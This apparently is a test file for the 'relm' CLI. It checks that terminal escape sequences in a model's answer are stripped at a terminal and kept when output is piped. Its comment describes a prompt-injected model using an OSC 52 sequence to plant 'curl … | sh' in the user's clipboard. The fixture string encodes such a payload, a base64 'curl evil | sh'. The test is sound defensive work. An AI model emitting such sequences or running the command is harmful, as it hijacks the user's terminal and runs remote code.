// `relm run`'s final answer on stdout is the model's text. Piped, it is data and printed as it is; at a
// terminal, escape sequences in it would act on the user's terminal (OSC 52 sets the clipboard: a
// prompt-injected model could put `curl … | sh` there), so they are left out there, as everywhere else
// relm shows a model's text.
import { describe, expect, it } from "vitest";
import { runRelm } from "../../support/cli.js";
import { usePtys } from "../../support/pty.js";
import { useRigs } from "../../support/scripted.js";

const startRig = useRigs();
const startPty = usePtys();
const ANSWER = "copy this \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 now";

describe("relm run's answer", () => {
  it("keeps no escape sequence at a terminal, and is printed as it is when piped", async () => {
    const rig = await startRig("openai", { script: [{ text: ANSWER }] });
    const pty = startPty({ args: ["run", "go"], env: rig.env, cwd: rig.cwd });
    const exit = await pty.exited;
    expect(exit.exitCode).toBe(0);
    expect(pty.output()).toContain("copy this  now");
    expect(pty.output()).not.toContain("52;c;Y3VybCBldmlsIHwgc2g=");

    const rig2 = await startRig("openai", { script: [{ text: ANSWER }] });
    const piped = await runRelm(["run", "go"], { env: rig2.env, cwd: rig2.cwd });
    expect(piped.stdout).toBe(`${ANSWER}\n`);
  });
});
